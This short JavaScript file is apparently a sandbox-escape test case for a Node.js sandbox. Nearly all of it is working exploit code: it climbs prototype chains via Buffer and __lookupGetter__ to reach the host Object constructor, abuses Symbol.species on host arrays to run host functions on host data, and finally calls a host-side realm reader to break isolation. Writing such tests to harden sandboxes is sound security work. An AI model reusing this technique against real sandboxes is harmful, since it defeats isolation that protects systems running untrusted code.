witness()
var apply = Buffer.apply
var up = apply.apply({}.__lookupGetter__, [Buffer, ['__proto__']])
var HostObject = up.call(up.call(up.call(up.call(Buffer.of())))).constructor
// Calls a host function by host code only, and keeps the result in a host array: nothing of it crosses the boundary.
function inside(method, receiver, list) {
  var held = HostObject.entries({})
  list.unshift(receiver)
  var bound = apply.apply(apply.bind, [method, list])
  held[0] = 0
  function Species() {
    return held
  }
  Species[Symbol.species] = Species
  held.constructor = Species
  held.map(bound)
  held.constructor = undefined
  return held
}
var prototype = inside(up.call, up, [apply])
var descriptors = inside(HostObject.getOwnPropertyDescriptors, undefined, prototype)
var entries = inside(HostObject.entries, undefined, descriptors)
entries[1] = [4]
var entry = inside(apply, entries.at, entries)
entry[1] = [1]
var descriptor = inside(apply, entry.at, entry)
var fields = inside(HostObject.entries, 0, descriptor)
fields[1] = [0]
var field = inside(apply, entry.at, fields)
field[1] = [1]
var value = inside(apply, entry.at, field)
value.push([undefined, [trial.readRealm]])
leak(apply.apply(apply, value)())
return 'tried'
